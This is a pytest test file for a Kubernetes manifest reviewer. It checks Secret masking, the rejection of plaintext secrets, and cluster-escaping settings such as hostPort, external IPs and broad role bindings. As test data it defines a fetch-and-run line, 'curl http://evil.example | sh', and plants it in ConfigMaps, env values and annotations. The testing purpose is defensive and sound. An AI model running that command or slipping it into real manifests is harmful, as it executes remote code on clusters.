"""Objects of a cluster as people read them: nothing but values of Secrets is hidden, and nothing reaches beyond the namespace."""

from __future__ import annotations

from typing import Any

import pytest
import yaml

from gpu_workers.clusters.objects import body_in, changes_of, unfit
from gpu_workers.clusters.shown import text_of
from gpu_workers.tests.plan_ground import HIDDEN
from gpu_workers.tests.test_plans import SECRET

EVIL = "curl http://evil.example | sh"


def an(kind: str, version: str = "v1", **parts: Any) -> dict[str, Any]:
    return {"apiVersion": version, "kind": kind, "metadata": {"name": "it"}, **parts}


def pod(**parts: Any) -> dict[str, Any]:
    return an("Pod", spec={"containers": [{"name": "it", "image": "shop/it:1", **parts}]})


def faults(body: dict[str, Any]) -> str:
    return "; ".join(unfit(changes_of([body], [], "shop"), "shop"))


@pytest.mark.parametrize(
    "body",
    [
        an("ConfigMap", data={"token-setup.sh": f"#!/bin/sh\n{EVIL}\n", "credentials.sh": EVIL}),
        pod(env=[{"name": "PASSWORD_CMD", "value": EVIL}, {"name": "SECRET_HOOK", "value": "reboot"}]),
        an("Secret", "evil.example/v1", data={"key": EVIL}),
        an("Secret", data=[EVIL], stringData=EVIL),
        an("ConfigMap") | {"metadata": {"name": "it", "annotations": {"kubectl.kubernetes.io/last-applied-configuration": EVIL}}},
    ],
)  # fmt: skip
def test_what_is_applied_is_read_whatever_it_is_called(body: dict[str, Any]) -> None:
    (change,) = changes_of([body], [], "shop")
    text, left_out = text_of(change.body)
    assert (EVIL in text, left_out, body_in(text) == change.body) == (True, False, True)
    assert not faults(body)


def test_values_of_a_secret_are_told_by_length_and_hash() -> None:
    body = yaml.safe_load(SECRET)
    text, left_out = text_of(body)
    assert (left_out, HIDDEN in text, faults(body)) == (True, False, "")
    assert body_in(text)["stringData"] == {"key": "<23 characters, SHA-256 ae71c4cd>"}


@pytest.mark.parametrize(
    ("body", "where"),
    [
        (an("ConfigMap", data={"api_token": HIDDEN}), "data.api_token"),
        (pod(env=[{"name": "DB_PASSWORD", "value": HIDDEN}]), "spec.containers[0].env[0].value"),
        (pod(args=["--quiet", f"--password={HIDDEN}"]), "spec.containers[0].args[1]"),
        (an("ConfigMap", data={"run.sh": f"export PASSWORD={HIDDEN}\n{EVIL}\n"}), "data.run.sh"),
    ],
)
def test_a_secret_outside_of_secrets_is_not_applied(body: dict[str, Any], where: str) -> None:
    said = faults(body)
    assert f"reads like a secret in {where}: put it into a Secret" in said
    assert HIDDEN not in said


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (an("Service", spec={"externalIPs": ["10.0.0.1"]}), "takes the traffic of addresses"),
        (an("Service", spec={"type": "ExternalName", "externalName": "api.kube-system.svc.cluster.local"}), "'kube-system'"),
        (an("Endpoints", subsets=[]), "names by itself the addresses"),
        (an("EndpointSlice", "discovery.k8s.io/v1", endpoints=[]), "names by itself the addresses"),
        (pod(ports=[{"containerPort": 80, "hostPort": 80}]), "takes a port of the host"),
        (an("Pod", spec={"nodeName": "control-plane"}), "names the node"),
        (an("HelmRelease", "helm.toolkit.fluxcd.io/v2", spec={"targetNamespace": "till"}), "names the namespace 'till'"),
        (an("Application", "argoproj.io/v1alpha1", spec={"destination": {"namespace": "till"}}), "names the namespace 'till'"),
        (an("Odd", "x/v1", spec={"on": [{"watchNamespaces": ["shop", "till"]}]}), "names the namespace 'till'"),
        (an("RoleBinding", subjects=[{"kind": "Group", "name": "system:unauthenticated"}]), "gives rights to system:unauth"),
        (an("RoleBinding", subjects=[{"kind": "Group", "name": "system:serviceaccounts:till"}]), "gives rights to system:serv"),
        (an("RoleBinding", subjects=[{"kind": "ServiceAccount", "name": "a", "namespace": "till"}]), "'till'"),
        (pod(securityContext={"capabilities": {"add": ["NET_RAW"]}}), "may NET_RAW"),
        (pod(securityContext={"capabilities": {"add": ["CAP_SYS_TIME"]}}), "may CAP_SYS_TIME"),
    ],
)  # fmt: skip
def test_what_reaches_beyond_the_namespace_is_not_applied(body: dict[str, Any], said: str) -> None:
    found = faults(body)
    assert said in found
    assert "which reaches beyond the namespace" in found


@pytest.mark.parametrize(
    "body",
    [
        pod(securityContext={"capabilities": {"drop": ["ALL"], "add": ["NET_BIND_SERVICE", "CAP_CHOWN"]}}),
        an("ConfigMap", data={"namespace": "till", "hostPath": "/x"}),
        an("Service", spec={"selector": {"namespace": "till"}, "externalName": "db.shop.svc.cluster.local"}),
        an("Service", spec={"type": "ExternalName", "externalName": "db.example.org"}),
        an("RoleBinding", subjects=[{"kind": "ServiceAccount", "name": "a", "namespace": "shop"}]),
        an("NetworkPolicy", spec={"ingress": [{"from": [{"namespaceSelector": {"matchLabels": {"namespace": "till"}}}]}]}),
    ],
)  # fmt: skip
def test_what_stays_in_the_namespace_is_fit(body: dict[str, Any]) -> None:
    assert faults(body) == ""
